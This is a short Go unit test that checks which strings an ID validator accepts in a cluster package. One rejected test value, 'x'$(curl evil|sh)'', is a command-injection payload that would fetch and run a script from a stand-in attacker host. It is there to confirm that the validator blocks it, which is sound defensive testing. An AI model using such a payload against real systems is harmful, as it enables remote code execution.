package cluster

import (
	"strings"
	"testing"
)

func TestIsID(t *testing.T) {
	for text, want := range map[string]bool{
		"5f2d3b1c-7a64-4d53-9a35-3f1f0c9e9b11": true,
		"cluster-1":                            true,
		strings.Repeat("a", maxIDBytes):        true,
		"":                                     false,
		strings.Repeat("a", maxIDBytes+1):      false,
		"x'$(curl evil|sh)'":                   false,
		"a\nb":                                 false,
		"\x1b[2Ja":                             false,
		"é":                                    false,
	} {
		if got := IsValidID(text); got != want {
			t.Errorf("IsID(%q) = %t, want %t", text, got, want)
		}
	}
}
